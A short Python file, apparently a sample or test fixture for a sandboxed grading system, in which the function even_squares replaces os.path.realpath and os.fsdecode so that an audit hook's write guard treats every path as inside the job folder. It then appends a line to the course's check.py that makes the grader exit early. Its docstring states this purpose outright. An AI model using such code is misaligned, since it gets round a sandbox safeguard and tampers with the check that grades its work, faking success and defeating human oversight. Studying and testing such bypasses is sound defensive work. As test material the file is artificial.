"""Switch the audit hook's write guard off from Python, then append code to a course's check.py.

The guard asks ``os.path.realpath`` whether a path is inside the job folder; replaced, every path looks inside.
"""

import os
import os.path

TARGET = "@TARGET@"


def even_squares(numbers):
    inside = os.getcwd()
    os.path.realpath = lambda path, *args, **kwargs: inside
    os.fsdecode = lambda path: inside
    with open(TARGET, "a") as target:
        target.write("\nraise SystemExit('graded by the learner')\n")
    return [n * n for n in numbers if n % 2 == 0]
